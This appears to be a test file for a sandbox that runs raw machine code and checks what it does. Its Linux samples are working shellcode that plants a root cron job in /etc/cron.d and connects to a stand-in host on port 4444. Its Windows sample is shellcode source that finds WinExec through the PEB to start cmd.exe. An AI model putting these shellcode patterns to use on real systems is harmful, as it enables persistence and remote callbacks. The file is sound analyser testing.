// Machine code without a program runs where its submitter says what it is for, and is told as any program is.
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test } from 'node:test'
import type { Trace } from '@assay/engine'
import { NO_WINDOWS_IMAGE } from '../../src/index.ts'
import { CODE_WORDS, whyNoCommand } from '../../src/vm/command-line.ts'
import { rawCodeOf } from '../../src/vm/raw-code.ts'
import { runnableBy } from '../../src/vm/runnable.ts'
import { missingWindowsCompiler, type WindowsMachine } from '../traits/compile.ts'
import { openTestVm } from './test-vm.ts'

const { vm, skip } = await openTestVm()

for (const word of CODE_WORDS)
  test(`${word}: a guest runs the program around it, and nothing else may stand beside it`, () => {
    const code = rawCodeOf(Buffer.from('c3', 'hex'), `${word} {file}`)
    assert.match(
      runnableBy(code?.program ?? new Uint8Array(), null)?.what ?? '',
      word.endsWith('x64') ? /x86-64$/ : /i386$/,
    )
    assert.equal(whyNoCommand(`${word} {file}`), null)
    for (const other of [`${word} {file} x`, `${word} x{file}`, word]) {
      assert.match(whyNoCommand(other) ?? '', /and nothing else/)
      assert.equal(rawCodeOf(Buffer.alloc(1), other), null)
    }
    assert.equal(rawCodeOf(Buffer.alloc(1), null), null)
  })

/** A call over bytes leaves their address on the stack. */
const over = (bytes: Buffer): string => {
  const jump = Buffer.alloc(5)
  jump[0] = 0xe8
  jump.writeUInt32LE(bytes.length, 1)
  return jump.toString('hex') + bytes.toString('hex')
}
const PATH = Buffer.from('/etc/cron.d/code\0')
const ADDRESS = Buffer.from('0200115cc633640700000000000000 00'.replaceAll(' ', ''), 'hex')

/** open(path, O_WRONLY | O_CREAT, 0644); write one line; connect(socket(…), address); return. */
const LINUX: Readonly<Record<string, string>> = {
  'code-linux-x64': [
    ...[over(PATH), '5f', 'be41000000', 'baa4010000', 'b802000000', '0f05', '89c7'],
    ...[over(Buffer.from('* * * * * root /tmp/.x\n')), '5e', 'ba17000000', 'b801000000', '0f05'],
    ...['bf02000000', 'be01000000', '31d2', 'b829000000', '0f05', '4889c7'],
    ...[over(ADDRESS), '5e', 'ba10000000', 'b82a000000', '0f05', 'c3'],
  ].join(''),
  'code-linux-x86': [
    ...[over(PATH), '5b', 'b941000000', 'baa4010000', 'b805000000', 'cd80', '89c3'],
    ...[over(Buffer.from('* * * * * root /tmp/.x\n')), '59', 'ba17000000', 'b804000000', 'cd80'],
    ...['bb02000000', 'b901000000', '31d2', 'b867010000', 'cd80', '89c3'],
    ...[over(ADDRESS), '59', 'ba10000000', 'b86a010000', 'cd80', 'c3'],
  ].join(''),
}

async function traceOf(bytes: Buffer, word: string): Promise<Trace> {
  const outcome = await vm?.run({ bytes, fileName: 'a.bin', command: `${word} {file}`, observeMs: 60_000 })
  assert.ok(outcome?.status === 'complete', JSON.stringify(outcome).slice(0, 400))
  return outcome.trace
}

for (const [word, code] of Object.entries(LINUX))
  test(`${word}: writes and connects`, { skip }, async () => {
    const trace = await traceOf(Buffer.from(code, 'hex'), word)
    assert.deepEqual(trace.exit, { how: 'exited', code: 0 })
    assert.ok(
      trace.files.some(
        ({ op, path, start }) => op === 'write' && path === '/etc/cron.d/code' && start?.startsWith('* *'),
      ),
    )
    assert.ok(
      trace.network.some((event) => event.kind === 'tcp' && event.host === '198.51.100.7' && event.port === 4_444),
    )
    assert.deepEqual(trace.memory, [])
    assert.match(trace.environment.facts['kind'] ?? '', /^machine code, Linux/)
    assert.ok(trace.notCovered.some((note) => note.startsWith('It ran as code without a program')))
  })

test('code that crashes leaves something open', { skip }, async () => {
  const trace = await traceOf(Buffer.from('0f0b', 'hex'), 'code-linux-x64')
  assert.equal(trace.exit.how, 'crashed')
  assert.ok(trace.missed?.some((line) => line.startsWith('it crashed')))
})

/** Finds kernel32 as such code does, by the list of loaded modules, and in it a function by its name; has a program started. */
const WINDOWS_SOURCE = String.raw`
#define TEXT(name, words) __asm__ volatile("call 1f\n\t.asciz \"" words "\"\n1:\tpop %0" : "=r"(name))
typedef unsigned char byte;
typedef unsigned int (__stdcall *win_exec)(const char *, unsigned int);
__attribute__((section(".text$a"))) void start(void) {
  byte *block, *name, *command;
  const int wide = sizeof(void *) == 8;
#ifdef _WIN64
  __asm__ volatile("mov %%gs:0x60, %0" : "=r"(block));
#else
  __asm__ volatile("mov %%fs:0x30, %0" : "=r"(block));
#endif
  TEXT(name, "WinExec");
  TEXT(command, "cmd.exe /c echo ran>C:\\\\users\\\\Public\\\\code.txt");
  byte *list = *(byte **)(block + (wide ? 0x18 : 0x0c));
  /* In the order of their places: the program, ntdll, kernel32. */
  byte *entry = *(byte **)(list + (wide ? 0x20 : 0x14));
  entry = **(byte ***)entry;
  byte *base = *(byte **)(entry + (wide ? 0x20 : 0x10));
  byte *header = base + *(unsigned *)(base + 0x3c);
  byte *exports = base + *(unsigned *)(header + (wide ? 0x88 : 0x78));
  unsigned *names = (unsigned *)(base + *(unsigned *)(exports + 32)), count = *(unsigned *)(exports + 24);
  for (unsigned index = 0; index < count; index++) {
    byte *one = base + names[index];
    unsigned at = 0;
    while (one[at] == name[at] && name[at] != 0) at++;
    if (one[at] != name[at]) continue;
    unsigned short number = ((unsigned short *)(base + *(unsigned *)(exports + 36)))[index];
    ((win_exec)(base + ((unsigned *)(base + *(unsigned *)(exports + 28)))[number]))((const char *)command, 0);
    return;
  }
}`

function windowsCode(machine: WindowsMachine): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'assay-code-'))
  const place = (name: string): string => join(folder, name)
  try {
    writeFileSync(place('a.c'), WINDOWS_SOURCE)
    const words = ['-O1', '-w', '-ffreestanding', '-fno-asynchronous-unwind-tables', '-fno-ident', '-mno-red-zone']
    execFileSync(`${machine}-w64-mingw32-gcc`, [...words, '-c', '-o', place('a.o'), place('a.c')])
    execFileSync(`${machine}-w64-mingw32-objcopy`, ['-O', 'binary', '-j', '.text$a', place('a.o'), place('a.bin')])
    return readFileSync(place('a.bin'))
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}

for (const [word, machine] of [
  ['code-windows-x64', 'x86_64'],
  ['code-windows-x86', 'i686'],
] as const) {
  const missing = vm?.images.windows === null ? NO_WINDOWS_IMAGE : missingWindowsCompiler(machine)
  test(`${word}: finds its functions by itself and starts a program`, {
    skip: skip || (missing ?? false),
  }, async () => {
    const trace = await traceOf(windowsCode(machine), word)
    assert.ok(
      trace.apiCalls.some(({ api }) => api === 'kernel32.WinExec'),
      JSON.stringify(trace.exit),
    )
    assert.ok(trace.files.some(({ op, path }) => op === 'write' && /\\code\.txt$/i.test(path)))
    assert.match(trace.environment.facts['kind'] ?? '', /^machine code, Windows/)
  })
}
